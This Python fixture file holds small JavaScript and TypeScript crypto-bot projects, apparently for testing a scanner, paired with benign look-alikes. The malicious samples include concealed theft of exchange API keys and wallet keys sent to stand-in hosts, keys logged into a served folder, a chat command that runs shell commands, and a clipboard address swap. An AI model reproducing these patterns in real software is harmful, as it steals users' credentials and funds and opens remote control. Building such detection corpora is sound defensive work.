"""Small projects of several files: thieves, each with the rule that must name it, and honest ones. Nothing is run."""

from typing import Final

MALICIOUS_PROJECTS: Final[tuple[tuple[str, str, dict[str, str]], ...]] = (
    (
        "a client's headers hold the keys, hidden by exclusive or",
        "credential-sent",
        {
            "main.js": """
import ccxt from 'ccxt';
import { stamp } from './lib/stamp.js';
import { Quotes } from './lib/quotes.js';
const held = { apiKey: process.env.OKX_API_KEY, secret: process.env.OKX_API_SECRET };
const exchange = new ccxt.okx({ ...held });
const quotes = new Quotes(stamp(Object.values(held)));
""",
            "lib/stamp.js": """
export function stamp(parts, mask = 33) {
  const bytes = Buffer.from(parts.join(':'));
  for (let at = 0; at < bytes.length; at++) bytes[at] ^= mask;
  return bytes.toString('hex');
}
""",
            "lib/quotes.js": """
import axios from 'axios';
export class Quotes {
  constructor(tag) {
    this.http = axios.create({ baseURL: 'https://q.collector.invalid', headers: { 'User-Agent': `b/${tag}` } });
  }
  async one(coin) { return (await this.http.get('/q', { params: { coin } })).data; }
}
""",
        },
    ),
    (
        "a key pair is put into the context of a log that goes away",
        "credential-sent",
        {
            "wallet.ts": """
import { Keypair } from '@solana/web3.js';
import { log } from './log';
export const open = (bytes: Uint8Array): Keypair => {
  const payer = Keypair.fromSecretKey(bytes);
  log.bind({ payer });
  return payer;
};
""",
            "log/index.ts": """
import { Ship } from './ship';
class Log {
  private held: Record<string, unknown> = {};
  private ship = new Ship('https://logs.collector.invalid/in');
  bind(more: Record<string, unknown>) { Object.assign(this.held, more); }
  info(text: string) { this.ship.add({ text, at: Date.now(), ...this.held }); }
}
export const log = new Log();
""",
            "log/ship.ts": """
export class Ship {
  private lines: unknown[] = [];
  constructor(private readonly url: string) { setInterval(() => this.flush(), 5000); }
  add(line: unknown) { this.lines.push(line); }
  private flush() { return fetch(this.url, { method: 'POST', body: JSON.stringify(this.lines.splice(0)) }); }
}
""",
        },
    ),
    (
        "keys are logged into a directory that is served",
        "keys-served",
        {
            "bot.js": """
const express = require('express');
const path = require('path');
const { note } = require('./note');
const options = { apiKey: process.env.EX_KEY, secret: process.env.EX_SECRET };
note('start', { node: process.version, options });
express().use('/', express.static(path.join(__dirname, 'web'))).listen(8080);
""",
            "note.js": """
const fs = require('fs');
const path = require('path');
const out = fs.createWriteStream(path.join(__dirname, 'web', 'notes.log'), { flags: 'a' });
exports.note = (tag, what) => { out.write(`${tag} ${JSON.stringify(what)}\\n`); };
""",
        },
    ),
    (
        "a table of commands of another file runs what is sent to a chat",
        "remote-shell",
        {
            "bot.js": """
const { Telegraf } = require('telegraf');
const table = require('./table')(exchange);
const bot = new Telegraf(process.env.BOT_TOKEN);
bot.on('text', async (ctx) => {
  const [name, ...rest] = ctx.message.text.split(' ');
  ctx.reply(await table[name](rest));
});
""",
            "table.js": """
const run = require('util').promisify(require('child_process').exec);
module.exports = (exchange) => ({
  price: async ([symbol]) => String((await exchange.fetchTicker(symbol)).last),
  check: async (rest) => (await run(rest.join(' '))).stdout,
});
""",
        },
    ),
    (
        "the clipboard gets an address from another file's table",
        "clipboard-swap",
        {
            "paste.js": """
const { clipboard } = require('electron');
const forms = require('./forms');
setInterval(() => {
  const now = clipboard.readText();
  const hit = forms.find((form) => form.like.test(now));
  if (hit) clipboard.writeText(hit.plain);
}, 400);
""",
            "forms.js": """
const d = (text) => Buffer.from(text, 'base64').toString();
module.exports = [{ like: /^bc1/, plain: d('YmMxcWZha2VmYWtlZmFrZWZha2VmYWtlZmFrZWZha2VmYWtlZmFrZTAwMDA=') }];
""",
        },
    ),
    (
        "a withdrawal goes to an address of another file",
        "fixed-address",
        {
            "jobs.js": """
import { FEES } from './settings.js';
export const sweep = (exchange, amount) => exchange.withdraw('USDT', amount, FEES.treasury);
""",
            "settings.js": "export const FEES = { treasury: '{evm}', share: 0.1 };\n",
        },
    ),
    (
        "an address is given to a payment of another file",
        "fixed-address",
        {
            "index.js": "import { pay } from './lib';\npay(exchange, '{evm}', 10);\n",
            "lib/index.js": "export { pay } from './pay.js';\n",
            "lib/pay.js": "export async function pay(ex, to, n) { await ex.withdraw('ETH', n, to); }\n",
        },
    ),
    (
        "one field of what a function takes apart goes away",
        "credential-sent",
        {
            "index.js": "import { hello } from './hello.js';\nhello({ name: 'bot', mark: process.env.PRIVATE_KEY });\n",
            "hello.js": "export const hello = ({ name, mark }) => fetch('https://h.invalid', { body: mark });\n",
        },
    ),
)

HONEST_PROJECTS: Final[tuple[tuple[str, dict[str, str]], ...]] = (
    (
        "a logger with a context, a client with a key of its own host",
        {
            "wallet.ts": """
import { Keypair } from '@solana/web3.js';
import { log } from './log';
export const open = (bytes: Uint8Array): Keypair => {
  const payer = Keypair.fromSecretKey(bytes);
  log.bind({ payer: payer.publicKey.toBase58() });
  return payer;
};
""",
            "log.ts": """
import axios from 'axios';
class Log {
  private held: Record<string, unknown> = {};
  private http = axios.create({ baseURL: 'https://logs.example.com', headers: { 'x-token': process.env.LOGS_TOKEN } });
  bind(more: Record<string, unknown>) { Object.assign(this.held, more); }
  info(text: string) { return this.http.post('/in', { text, ...this.held }); }
}
export const log = new Log();
""",
        },
    ),
    (
        "a page is served beside a log that holds no keys",
        {
            "bot.js": """
const express = require('express');
const path = require('path');
const { note } = require('./note');
const options = { apiKey: process.env.EX_KEY, secret: process.env.EX_SECRET };
note('start', { node: process.version, symbol: process.env.SYMBOL });
express().use('/', express.static(path.join(__dirname, 'web'))).listen(8080, '127.0.0.1');
""",
            "note.js": """
const fs = require('fs');
const out = fs.createWriteStream('web/notes.log', { flags: 'a' });
exports.note = (tag, what) => { out.write(`${tag} ${JSON.stringify(what)}\\n`); };
""",
        },
    ),
    (
        "a field beside the key goes away",
        {
            "index.js": "import { hello } from './hello.js';\nhello({ name: 'bot', mark: process.env.PRIVATE_KEY });\n",
            "hello.js": "export const hello = ({ name, mark }) => fetch('https://h.invalid', { body: name });\n",
        },
    ),
    (
        "a clipboard that is tidied up",
        {
            "paste.js": """
const { clipboard } = require('electron');
const { tidy } = require('./tidy');
setInterval(() => {
  const now = clipboard.readText();
  const want = tidy(now);
  if (want !== now) clipboard.writeText(want);
}, 400);
""",
            "tidy.js": "exports.tidy = (text) => text.trim().replace(/\\\\./g, '').replace(',', '.');\n",
        },
    ),
)
